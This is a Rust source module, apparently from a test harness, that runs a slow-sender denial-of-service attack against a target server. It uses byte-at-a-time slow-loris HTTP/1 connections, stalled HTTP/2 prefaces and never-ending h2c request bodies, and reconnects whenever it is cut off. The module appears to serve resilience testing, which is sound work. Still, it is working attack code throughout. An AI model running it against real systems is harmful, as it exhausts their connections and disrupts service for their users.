//! The slow-sender attack of issue 11 (point 3), for `--attack`: slow-loris HTTP/1
//! connections (headers a byte at a time, or complete headers and a body trickling, one in a
//! hundred stalling in the HTTP/2 preface) and h2c connections whose streams trickle their
//! bodies, each started again whenever the target cuts it off. It runs on a runtime of its own
//! (one thread) so that its tasks do not queue ahead of the driver's.

use std::convert::Infallible;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::task::{Context, Poll};
use std::time::Duration;

use bytes::Bytes;
use hyper::body::{Body, Frame};
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

#[derive(Default)]
struct Shared {
    /// A byte every this often: far below any sensible minimum body rate.
    trickle: Duration,
    stop: AtomicBool,
    h1_connects: AtomicU64,
    h2_streams: AtomicU64,
}

pub struct Attack {
    shared: Arc<Shared>,
    rt: Option<tokio::runtime::Runtime>,
}

/// What the attack did.
#[derive(Debug, Clone, Copy)]
pub struct AttackStats {
    pub h1_connects: u64,
    pub h2_streams: u64,
}

impl Attack {
    /// Each attacker starts at its own offset within `spread` (0: all at once, so that every
    /// cut-off and reconnect comes in one burst, the worst case).
    pub fn start(
        addr: SocketAddr,
        slowloris: usize,
        h2_conns: usize,
        streams: usize,
        spread: Duration,
        trickle: Duration,
    ) -> Attack {
        raise_fd_limit();
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .thread_name("attack")
            .enable_all()
            .build()
            .expect("attack runtime");
        let shared = Arc::new(Shared {
            trickle,
            ..Shared::default()
        });
        let offset = |i: usize, n: usize| spread.mul_f64(i as f64 / n.max(1) as f64);
        for i in 0..slowloris {
            let mode = if i % 100 == 0 { 2 } else { i % 2 };
            let (s, at) = (shared.clone(), offset(i, slowloris));
            rt.spawn(async move {
                tokio::time::sleep(at).await;
                slowloris_conn(addr, mode, s).await
            });
        }
        for i in 0..h2_conns {
            let (s, at) = (shared.clone(), offset(i, h2_conns));
            rt.spawn(async move {
                tokio::time::sleep(at).await;
                h2_trickler(addr, streams, s).await
            });
        }
        Attack {
            shared,
            rt: Some(rt),
        }
    }

    pub fn stop(mut self) -> AttackStats {
        self.shared.stop.store(true, Ordering::Relaxed);
        if let Some(rt) = self.rt.take() {
            rt.shutdown_background();
        }
        AttackStats {
            h1_connects: self.shared.h1_connects.load(Ordering::Relaxed),
            h2_streams: self.shared.h2_streams.load(Ordering::Relaxed),
        }
    }
}

/// The harness and its attack hold thousands of sockets: lift the soft limit to the hard one.
fn raise_fd_limit() {
    let mut l = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: getrlimit/setrlimit only read and write the struct passed.
    unsafe {
        if libc::getrlimit(libc::RLIMIT_NOFILE, &mut l) == 0 && l.rlim_cur < l.rlim_max {
            l.rlim_cur = l.rlim_max;
            libc::setrlimit(libc::RLIMIT_NOFILE, &l);
        }
    }
}

/// `mode` 0: headers a byte at a time; 1: complete headers, then a body a byte at a time;
/// 2: the start of the HTTP/2 preface, then nothing.
async fn slowloris_conn(addr: SocketAddr, mode: usize, s: Arc<Shared>) {
    let head = b"POST /api/v1/write HTTP/1.1\r\nhost: cardguard\r\ncontent-type: application/x-protobuf\r\ncontent-encoding: snappy\r\ncontent-length: 100000\r\n\r\n";
    while !s.stop.load(Ordering::Relaxed) {
        let Ok(mut c) = TcpStream::connect(addr).await else {
            tokio::time::sleep(s.trickle).await;
            continue;
        };
        s.h1_connects.fetch_add(1, Ordering::Relaxed);
        let first: &[u8] = match mode {
            1 => head,
            2 => b"PRI * HTTP/2.0\r\n",
            _ => b"",
        };
        if c.write_all(first).await.is_err() {
            continue;
        }
        let mut sent = 0usize;
        let mut buf = [0u8; 256];
        while !s.stop.load(Ordering::Relaxed) {
            if mode != 2 {
                let byte = if mode == 0 {
                    head.get(sent).copied().unwrap_or(b'x')
                } else {
                    b'x'
                };
                if c.write_all(&[byte]).await.is_err() {
                    break;
                }
                sent += 1;
            }
            // Any answer (408, 503) or a close ends this connection; start again.
            if tokio::time::timeout(s.trickle, c.read(&mut buf))
                .await
                .is_ok()
            {
                break;
            }
        }
    }
}

/// A request body that never ends: one byte every tick.
struct Trickle(tokio::time::Interval);

impl Body for Trickle {
    type Data = Bytes;
    type Error = Infallible;
    fn poll_frame(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        self.0
            .poll_tick(cx)
            .map(|_| Some(Ok(Frame::data(Bytes::from_static(b"x")))))
    }
}

async fn h2_trickler(addr: SocketAddr, streams: usize, s: Arc<Shared>) {
    while !s.stop.load(Ordering::Relaxed) {
        let Ok(tcp) = TcpStream::connect(addr).await else {
            tokio::time::sleep(s.trickle).await;
            continue;
        };
        let Ok((sender, conn)) =
            hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(tcp)).await
        else {
            continue;
        };
        let conn = tokio::spawn(conn);
        let mut tasks = Vec::new();
        for _ in 0..streams {
            let (mut sender, s) = (sender.clone(), s.clone());
            tasks.push(tokio::spawn(async move {
                while !s.stop.load(Ordering::Relaxed) {
                    if sender.ready().await.is_err() {
                        return;
                    }
                    let req = http::Request::post(format!("http://{addr}/api/v1/write"))
                        .header("content-type", "application/x-protobuf")
                        .header("content-encoding", "snappy")
                        .body(Trickle(tokio::time::interval(s.trickle)))
                        .expect("request");
                    s.h2_streams.fetch_add(1, Ordering::Relaxed);
                    if sender.send_request(req).await.is_err() && sender.is_closed() {
                        return;
                    }
                }
            }));
        }
        for t in tasks {
            let _ = t.await;
        }
        conn.abort();
    }
}

/// The sum of the samples of `name` (any labels) on the target's `/metrics`.
pub fn scrape(addr: SocketAddr, name: &str) -> f64 {
    use std::io::{Read, Write};
    let Ok(mut s) = std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(1)) else {
        return f64::NAN;
    };
    let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
    let _ = s.write_all(b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    let mut out = String::new();
    let _ = s.read_to_string(&mut out);
    out.lines()
        .filter(|l| {
            l.strip_prefix(name)
                .is_some_and(|r| r.starts_with(' ') || r.starts_with('{'))
        })
        .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
        .sum::<f64>()
        + 0.0 // an empty sum is -0
}
